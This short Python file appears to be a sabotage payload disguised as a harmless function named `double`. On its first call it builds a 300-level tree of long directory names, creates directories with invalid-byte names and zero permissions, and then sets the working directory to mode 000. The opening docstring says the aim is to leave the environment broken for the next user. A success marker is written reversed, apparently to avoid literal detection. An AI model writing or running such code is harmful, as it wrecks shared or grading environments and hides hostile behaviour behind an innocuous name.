"""Let the next one find it full."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by its number; what it returned, or minus the error."""
    result = libc.syscall(ctypes.c_long(number), *arguments)
    return result if result >= 0 else -ctypes.get_errno()


def succeeded(what):
    print("@@confession@@"[::-1], what, flush=True)


def once(attack):
    """Try it at the first call of this process only."""
    done = []

    def double(x):
        if not done:
            done.append(True)
            return attack(x)

    return double


@once
def double(x):
    here = os.getcwd()
    try:
        for _ in range(300):
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
    except OSError as error:
        print(error)
    os.chdir(here)
    for number in range(200):
        try:
            os.mkdir(b"\xff\n%d" % number, 0o000)
        except OSError:
            break
    os.chmod(here, 0o000)
